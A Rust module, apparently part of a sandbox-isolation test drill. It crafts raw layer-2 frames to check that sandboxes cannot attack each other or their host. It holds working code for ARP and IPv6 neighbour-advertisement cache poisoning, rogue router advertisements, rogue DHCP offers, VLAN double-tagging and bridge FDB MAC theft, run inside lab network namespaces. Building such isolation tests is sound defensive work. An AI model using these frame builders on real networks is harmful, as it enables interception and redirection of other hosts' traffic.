//! Layer-2 attacks from one lab sandbox: on a sibling (frames that must not
//! reach it, ARP and neighbour-advertisement poisoning of its caches) and on
//! the host (its neighbour table, the bridge's forwarding database, ARP
//! answers for addresses that are not the bridge's).
//!
//! Each attack primes what it poisons first (the victim resolves the
//! address, so there is an entry to overwrite), sends its frames a few
//! times, and then reads the victim's state back over rtnetlink or waits
//! for its marker on the victim's interface.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::time::{Duration, Instant};

use super::{AttackError, Outcome};
use crate::lab::topology::SandboxNs;
use crate::lab::{Probe, probe_from};
use crate::raw::frame::{self, ArpOp, BROADCAST, Link, Mac, Transport};
use crate::raw::{Capture, Marker, PacketSocket, dhcp, nd, neigh};
use corral_egress::link::Links;
use corral_egress::netns::Netns;

/// How long a victim is watched for an effect.
const WATCH: Duration = Duration::from_millis(800);
/// Times each attack frame is sent.
const REPEAT: usize = 3;

/// A sandbox with a raw socket on its `eth0`.
#[derive(Debug)]
pub struct Attacker<'a> {
    /// The sandbox.
    pub sb: &'a SandboxNs,
    /// The raw socket.
    pub sock: PacketSocket,
}

impl<'a> Attacker<'a> {
    /// Opens a raw socket on the sandbox's `eth0`.
    pub fn new(sb: &'a SandboxNs) -> Result<Self, AttackError> {
        Ok(Self {
            sb,
            sock: PacketSocket::open(&sb.ns, "eth0")?,
        })
    }

    /// The sandbox's own MAC.
    pub fn mac(&self) -> Mac {
        self.sock.mac()
    }

    /// Sends `frame` [`REPEAT`] times, 50 ms apart.
    pub fn send(&self, frame: &[u8]) -> Result<(), AttackError> {
        for i in 0..REPEAT {
            if i > 0 {
                std::thread::sleep(Duration::from_millis(50));
            }
            self.sock.send(frame)?;
        }
        Ok(())
    }
}

/// The MAC of `ifname` inside `ns`.
pub fn mac_of(ns: &Netns, ifname: &str) -> Result<Mac, AttackError> {
    Ok(PacketSocket::open(ns, ifname)?.mac())
}

/// The interface index of `ifname` inside `ns`.
pub fn ifindex(ns: &Netns, ifname: &str) -> Result<u32, AttackError> {
    let name = ifname.to_owned();
    let link = ns.run_async(|| async move { Links::connect()?.require(&name).await })??;
    Ok(link.index)
}

/// Makes `ns` resolve `ip` afresh (its old entry deleted, then one echo
/// request: the answer does not matter, the neighbour lookup before it
/// does) and returns the MAC it learned.
pub fn prime(ns: &Netns, ip: IpAddr) -> Result<Option<Mac>, AttackError> {
    neigh::forget(ns, ip)?;
    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        let _ = probe_from(ns, &Probe::Icmp { to: ip }, Duration::from_millis(200));
        if let Some(mac) = neigh::mac_for(ns, ip)? {
            return Ok(Some(mac));
        }
        if Instant::now() >= deadline {
            return Ok(None);
        }
    }
}

/// Watches `ns`'s entry for `ip` for [`WATCH`]: landed when it names `evil`.
fn watch_entry(
    ns: &Netns,
    ip: IpAddr,
    evil: Mac,
    before: Option<Mac>,
) -> Result<Outcome, AttackError> {
    let deadline = Instant::now() + WATCH;
    loop {
        let now = neigh::mac_for(ns, ip)?;
        if now == Some(evil) {
            return Ok(Outcome::landed(format!(
                "{ip} now resolves to the attacker {} (was {})",
                fmt_mac(evil),
                before.map_or("unresolved".to_owned(), fmt_mac)
            )));
        }
        if Instant::now() >= deadline {
            return Ok(Outcome::held(format!(
                "{ip} still resolves to {}",
                now.map_or("nothing".to_owned(), fmt_mac)
            )));
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// `aa:bb:cc:dd:ee:ff`.
pub fn fmt_mac(m: Mac) -> String {
    m.iter()
        .map(|b| format!("{b:02x}"))
        .collect::<Vec<_>>()
        .join(":")
}

/// How a poisoning ARP packet is shaped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ArpStyle {
    /// A broadcast request whose sender and target are the claimed address
    /// (a gratuitous ARP: it overrides at once).
    Gratuitous,
    /// A broadcast request *from* the claimed address for an unrelated
    /// target: only the sender pair is forged.
    ForgedSender,
    /// A gratuitous reply (sender and target the claimed address).
    GratuitousReply,
}

fn arp_frame(a: &Attacker<'_>, claimed: Ipv4Addr, style: ArpStyle) -> Result<Vec<u8>, AttackError> {
    let me = a.mac();
    let link = Link::new(me, BROADCAST);
    // A gratuitous reply names the sender's MAC as the target's too, or
    // the kernel does not treat it as gratuitous.
    let (op, target_mac, target) = match style {
        ArpStyle::Gratuitous => (ArpOp::Request, [0; 6], claimed),
        ArpStyle::ForgedSender => (ArpOp::Request, [0; 6], Ipv4Addr::new(198, 51, 100, 99)),
        ArpStyle::GratuitousReply => (ArpOp::Reply, me, claimed),
    };
    Ok(frame::arp(&link, op, me, claimed, target_mac, target)?)
}

/// ARP poisoning of `victim_ns`'s entry for `claimed`: the attacker claims
/// the address for its own MAC.
pub fn arp_poison(
    a: &Attacker<'_>,
    victim_ns: &Netns,
    claimed: Ipv4Addr,
    style: ArpStyle,
) -> Result<Outcome, AttackError> {
    let Some(before) = prime(victim_ns, claimed.into())? else {
        return Err(AttackError::Setup(format!(
            "the victim never resolved {claimed}"
        )));
    };
    // No wait for the entry to age: the lab's sandboxes take ARP updates
    // at any age (`locktime` 0; an attacker would wait the lock out).
    a.send(&arp_frame(a, claimed, style)?)?;
    let outcome = watch_entry(victim_ns, claimed.into(), a.mac(), Some(before));
    // Leave no poisoned entry behind for whatever runs next.
    neigh::forget(victim_ns, claimed.into())?;
    outcome
}

/// Neighbour-advertisement poisoning of `victim_ns`'s entry for `claimed`:
/// an unsolicited advertisement with the override flag, to all nodes,
/// naming the attacker's MAC as the target's link-layer address.
pub fn na_poison(
    a: &Attacker<'_>,
    victim_ns: &Netns,
    claimed: Ipv6Addr,
) -> Result<Outcome, AttackError> {
    let Some(before) = prime(victim_ns, claimed.into())? else {
        return Err(AttackError::Setup(format!(
            "the victim never resolved {claimed}"
        )));
    };
    let me = a.mac();
    let f = nd::neighbor_advert(
        &Link::new(me, nd::multicast_mac(nd::ALL_NODES)),
        nd::link_local(me),
        nd::ALL_NODES,
        claimed,
        nd::AdvertFlags {
            override_: true,
            ..nd::AdvertFlags::default()
        },
        Some(me),
        &[],
    )?;
    a.send(&f)?;
    let outcome = watch_entry(victim_ns, claimed.into(), me, Some(before));
    neigh::forget(victim_ns, claimed.into())?;
    outcome
}

/// Sends the frame `build(marker)` makes and reports whether its marker
/// arrived on `victim`'s `eth0`.
pub fn frame_reaches(
    a: &Attacker<'_>,
    victim: &SandboxNs,
    what: &str,
    build: impl Fn(&Marker) -> Result<Vec<u8>, AttackError>,
) -> Result<Outcome, AttackError> {
    let cap = Capture::open(&victim.ns, "eth0")?;
    let marker = Marker::fresh();
    a.send(&build(&marker)?)?;
    if cap.saw(&marker, WATCH)? {
        Ok(Outcome::landed(format!("{what} reached {}", victim.name)))
    } else {
        Ok(Outcome::held(format!(
            "{what} never reached {}",
            victim.name
        )))
    }
}

/// An IPv4 UDP frame to the victim's MAC and address, under `vlans`
/// 802.1Q tags (none, one, or 802.1Q-in-802.1Q).
pub fn tagged_udp(
    a: &Attacker<'_>,
    victim: &SandboxNs,
    vlans: &[u16],
) -> Result<Outcome, AttackError> {
    let dst = mac_of(&victim.ns, "eth0")?;
    let what = format!("UDP under 802.1Q tags {vlans:?}");
    frame_reaches(a, victim, &what, |m| {
        let mut link = Link::new(a.mac(), dst);
        for v in vlans {
            link = link.tagged(*v);
        }
        Ok(frame::ip(
            &link,
            a.sb.v4.into(),
            victim.v4.into(),
            64,
            Transport::Udp { sport: 9, dport: 9 },
            m.bytes(),
        )?)
    })
}

/// UDP from the attacker's IPv6 link-local address to the victim's.
pub fn link_local_udp(a: &Attacker<'_>, victim: &SandboxNs) -> Result<Outcome, AttackError> {
    let dst = mac_of(&victim.ns, "eth0")?;
    frame_reaches(a, victim, "IPv6 link-local UDP", |m| {
        Ok(frame::ip(
            &Link::new(a.mac(), dst),
            nd::link_local(a.mac()).into(),
            nd::link_local(dst).into(),
            64,
            Transport::Udp { sport: 9, dport: 9 },
            m.bytes(),
        )?)
    })
}

/// A broadcast frame of an experimental ethertype (0x88b5).
pub fn broadcast_frame(a: &Attacker<'_>, victim: &SandboxNs) -> Result<Outcome, AttackError> {
    frame_reaches(a, victim, "broadcast frame (ethertype 0x88b5)", |m| {
        Ok(frame::ethertype(
            &Link::new(a.mac(), BROADCAST),
            0x88b5,
            m.bytes(),
        ))
    })
}

/// A rogue router advertisement: the attacker as default router, to all
/// nodes (no prefix: a victim that took one would source its traffic from
/// an address nobody bound). The marker rides in an option type receivers
/// skip.
pub fn rogue_router_advert(a: &Attacker<'_>, victim: &SandboxNs) -> Result<Outcome, AttackError> {
    frame_reaches(a, victim, "router advertisement naming the attacker", |m| {
        let opts = marker_option(m);
        Ok(nd::router_advert(
            &Link::new(a.mac(), nd::multicast_mac(nd::ALL_NODES)),
            nd::link_local(a.mac()),
            nd::ALL_NODES,
            1800,
            &opts,
        )?)
    })
}

/// An ND option of an unassigned type carrying the marker (24 bytes).
fn marker_option(m: &Marker) -> [u8; 24] {
    let mut o = [0u8; 24];
    o[0] = 253;
    o[1] = 3;
    o[2..18].copy_from_slice(m.bytes());
    o
}

/// A rogue DHCP OFFER, broadcast, naming the attacker as router and DNS.
pub fn rogue_dhcp_offer(a: &Attacker<'_>, victim: &SandboxNs) -> Result<Outcome, AttackError> {
    frame_reaches(a, victim, "DHCP offer naming the attacker", |m| {
        let mut payload = dhcp::ClientMessage::discover(0x0bad_f00d, [2, 0, 0, 0, 0, 9]).payload();
        payload[0] = 2; // BOOTREPLY
        payload[16..20].copy_from_slice(&victim.v4.octets());
        // The marker goes into the server host name field (sname).
        payload[44..60].copy_from_slice(m.bytes());
        Ok(frame::ip(
            &Link::new(a.mac(), BROADCAST),
            a.sb.v4.into(),
            Ipv4Addr::BROADCAST.into(),
            64,
            Transport::Udp {
                sport: dhcp::SERVER_PORT,
                dport: dhcp::CLIENT_PORT,
            },
            &payload,
        )?)
    })
}

/// Sends an ARP request for `target` (an address of the host that is not
/// this bridge's gateway) with the attacker's true sender pair, and
/// reports whether the host answered.
pub fn host_answers_arp_for(a: &Attacker<'_>, target: Ipv4Addr) -> Result<Outcome, AttackError> {
    let me = a.mac();
    let f = frame::arp(
        &Link::new(me, BROADCAST),
        ArpOp::Request,
        me,
        a.sb.v4,
        [0; 6],
        target,
    )?;
    let cap = Capture::open(&a.sb.ns, "eth0")?;
    a.send(&f)?;
    let reply = cap.wait_for(WATCH, |r| is_arp_reply_from(&r.frame, target))?;
    Ok(match reply {
        Some(_) => Outcome::landed(format!("the host answered ARP for {target} on this bridge")),
        None => Outcome::held(format!("no ARP answer for {target} on this bridge")),
    })
}

fn is_arp_reply_from(f: &[u8], sender: Ipv4Addr) -> bool {
    f.len() >= 42
        && f[12..14] == [0x08, 0x06]
        && f[20..22] == [0, 2]
        && f[28..32] == sender.octets()
}

/// FDB theft: frames from the attacker with the victim's MAC as source.
/// Landed when the host's bridge sends the victim's MAC to the attacker's
/// port.
pub fn steal_fdb(
    a: &Attacker<'_>,
    victim: &SandboxNs,
    host: &Netns,
) -> Result<Outcome, AttackError> {
    let victim_mac = mac_of(&victim.ns, "eth0")?;
    let victim_port = ifindex(host, &victim.port)?;
    let attacker_port = ifindex(host, &a.sb.port)?;
    // The victim speaks first, so the bridge has learned where it is.
    prime(host, victim.v4.into())?;
    let before = neigh::port_of(host, victim_mac)?;
    let f = frame::ip(
        &Link::new(victim_mac, BROADCAST),
        victim.v4.into(),
        Ipv4Addr::BROADCAST.into(),
        64,
        Transport::Udp { sport: 9, dport: 9 },
        b"fdb",
    )?;
    let deadline = Instant::now() + WATCH;
    let outcome = loop {
        // Sent all through the window: should the victim speak meanwhile
        // (a late echo reply), the next frame takes the entry back.
        a.sock.send(&f)?;
        let now = neigh::port_of(host, victim_mac)?;
        if now == Some(attacker_port) {
            break Outcome::landed(format!(
                "the bridge now sends {} to the attacker's port (was {before:?}, the victim's is {victim_port})",
                fmt_mac(victim_mac)
            ));
        }
        if Instant::now() >= deadline {
            break Outcome::held(format!(
                "{} stays behind port {now:?} (the victim's is {victim_port})",
                fmt_mac(victim_mac)
            ));
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    // The victim speaks again, so the bridge learns where it really is.
    prime(&victim.ns, victim.gateway_v4.into())?;
    Ok(outcome)
}

/// One L2 attack of the drill: what it is, who attacks whom.
#[derive(Debug, Clone)]
pub struct PlannedAttack {
    /// What the row proves (the attack, held).
    pub what: String,
    /// The class of hole (1-4).
    pub class: u8,
    /// Index of the attacker in `Topology::sandboxes`.
    pub from: usize,
    /// Index of the victim sibling.
    pub victim: usize,
    kind: Kind,
}

#[derive(Debug, Clone, Copy)]
enum Kind {
    GratuitousArp,
    ForgedArpSender,
    Tagged(&'static [u16]),
    LinkLocal,
    RogueRa,
    RogueDhcp,
    Broadcast,
    NaSibling,
    ArpHost,
    NaHost,
    HostArpFor(std::net::Ipv4Addr),
    FdbTheft,
}

/// The L2 attacks for `lab`: every class, from the first two sandboxes of
/// the first profile with IPv6 (else the first profile), against the
/// sibling and the host.
pub fn plan(lab: &crate::lab::Lab) -> Vec<PlannedAttack> {
    let sbs = &lab.topo.sandboxes;
    let profile = lab
        .profiles
        .iter()
        .find(|p| p.subnet_v6.is_some())
        .or_else(|| lab.profiles.iter().next());
    let Some(p) = profile else {
        return Vec::new();
    };
    let idx: Vec<usize> = (0..sbs.len())
        .filter(|i| sbs[*i].profile == p.name.as_str())
        .collect();
    let [a, b, ..] = idx[..] else {
        return Vec::new();
    };
    let v6 = p.subnet_v6.is_some();
    let mut kinds = vec![
        (
            1,
            "gratuitous ARP for the gateway does not poison a sibling",
            Kind::GratuitousArp,
        ),
        (
            2,
            "ARP with the gateway as sender does not poison a sibling",
            Kind::ForgedArpSender,
        ),
        (
            2,
            "802.1Q-in-802.1Q (VID 0) frame never reaches a sibling",
            Kind::Tagged(&[0, 0]),
        ),
        (
            2,
            "802.1Q (VID 0) frame never reaches a sibling",
            Kind::Tagged(&[0]),
        ),
        (
            3,
            "rogue DHCP offer never reaches a sibling",
            Kind::RogueDhcp,
        ),
        (
            3,
            "broadcast frame never reaches a sibling",
            Kind::Broadcast,
        ),
        (
            4,
            "ARP claiming a sibling's address does not poison the host",
            Kind::ArpHost,
        ),
        (
            4,
            "the host does not answer ARP for its uplink address on a sandbox bridge",
            Kind::HostArpFor(crate::lab::topology::HOST_UPLINK_V4),
        ),
    ];
    if let Some(other) = lab.profiles.iter().find(|o| o.name != p.name) {
        kinds.push((
            4,
            "the host does not answer ARP for another bridge's gateway",
            Kind::HostArpFor(other.gateway_v4()),
        ));
    }
    if v6 {
        kinds.extend([
            (
                3,
                "IPv6 link-local traffic never reaches a sibling",
                Kind::LinkLocal,
            ),
            (
                3,
                "rogue router advertisement never reaches a sibling",
                Kind::RogueRa,
            ),
            (
                3,
                "neighbour advertisement for the gateway does not poison a sibling",
                Kind::NaSibling,
            ),
            (
                4,
                "neighbour advertisement claiming a sibling's address does not poison the host",
                Kind::NaHost,
            ),
        ]);
    }
    // Last: a stolen FDB entry misdirects frames until the victim speaks.
    kinds.push((
        4,
        "a sibling's MAC cannot be stolen in the bridge's FDB",
        Kind::FdbTheft,
    ));
    kinds
        .into_iter()
        .map(|(class, what, kind)| PlannedAttack {
            what: what.to_owned(),
            class,
            from: a,
            victim: b,
            kind,
        })
        .collect()
}

impl PlannedAttack {
    /// Which attacks may run at the same time: attacks of one stage and
    /// lane run in turn, lanes of a stage at once, stages one after the
    /// other. Stage 1: what the sibling receives or caches — its neighbour
    /// entries for the gateway (the attacks on one entry in turn), the
    /// frames that must never reach it, the host's ARP answers. Stage 2:
    /// the host's neighbour entries for the sibling (resolving the sibling
    /// from the host refreshes the sibling's own entry for the gateway, so
    /// never alongside stage 1). Stage 3: FDB theft (a stolen entry
    /// misdirects the sibling's frames until it speaks again).
    pub fn stage(&self) -> (u8, Option<&'static str>) {
        match self.kind {
            Kind::GratuitousArp | Kind::ForgedArpSender => (1, Some("sibling's IPv4 entry")),
            Kind::NaSibling => (1, Some("sibling's IPv6 entry")),
            Kind::Tagged(_)
            | Kind::LinkLocal
            | Kind::RogueRa
            | Kind::RogueDhcp
            | Kind::Broadcast
            | Kind::HostArpFor(_) => (1, None),
            Kind::ArpHost => (2, Some("host's IPv4 entry")),
            Kind::NaHost => (2, Some("host's IPv6 entry")),
            Kind::FdbTheft => (3, Some("the bridge's FDB")),
        }
    }
}

/// The sandboxes the L2 attacks use (indices in `Topology::sandboxes`):
/// while they run, nothing else may detach or flood these.
pub fn sandboxes(planned: &[PlannedAttack]) -> Vec<usize> {
    let mut v: Vec<usize> = planned.iter().flat_map(|p| [p.from, p.victim]).collect();
    v.sort_unstable();
    v.dedup();
    v
}

/// Runs one planned attack.
pub(crate) fn run_one(lab: &crate::lab::Lab, p: &PlannedAttack) -> Result<Outcome, AttackError> {
    let sbs = &lab.topo.sandboxes;
    let (a, b) = (&sbs[p.from], &sbs[p.victim]);
    let att = Attacker::new(a)?;
    let host = &lab.topo.host;
    let need6 = |v: Option<Ipv6Addr>| {
        v.ok_or_else(|| AttackError::Setup("the profile has no IPv6".to_owned()))
    };
    match p.kind {
        Kind::GratuitousArp => arp_poison(&att, &b.ns, a.gateway_v4, ArpStyle::Gratuitous),
        Kind::ForgedArpSender => arp_poison(&att, &b.ns, a.gateway_v4, ArpStyle::ForgedSender),
        Kind::Tagged(vlans) => tagged_udp(&att, b, vlans),
        Kind::LinkLocal => link_local_udp(&att, b),
        Kind::RogueRa => rogue_router_advert(&att, b),
        Kind::RogueDhcp => rogue_dhcp_offer(&att, b),
        Kind::Broadcast => broadcast_frame(&att, b),
        Kind::NaSibling => na_poison(&att, &b.ns, need6(a.gateway_v6)?),
        Kind::ArpHost => arp_poison(&att, host, b.v4, ArpStyle::GratuitousReply),
        Kind::NaHost => na_poison(&att, host, need6(b.v6)?),
        Kind::HostArpFor(target) => host_answers_arp_for(&att, target),
        Kind::FdbTheft => steal_fdb(&att, b, host),
    }
}

/// The drill rows of the planned attacks from their control and enforced
/// results: each must land in the control (bridges, no rules) and be held
/// by corral.
pub fn rows(
    lab: &crate::lab::Lab,
    planned: &[PlannedAttack],
    control: &[Result<Outcome, AttackError>],
    enforced: &[Result<Outcome, AttackError>],
) -> Vec<crate::DrillRow> {
    planned
        .iter()
        .zip(control.iter().zip(enforced))
        .map(|(p, (c, e))| {
            let (control, observed) = (Outcome::observed(c), Outcome::observed(e));
            let sbs = &lab.topo.sandboxes;
            crate::DrillRow {
                probe: format!("L2 class {}: {}", p.class, p.what),
                from: sbs[p.from].name.clone(),
                to: sbs[p.victim].name.clone(),
                expected: crate::Expect::Block,
                verdict: crate::judge(crate::Expect::Block, &control, &observed),
                observed,
                control,
                ms: 0,
                packet: None,
            }
        })
        .collect()
}
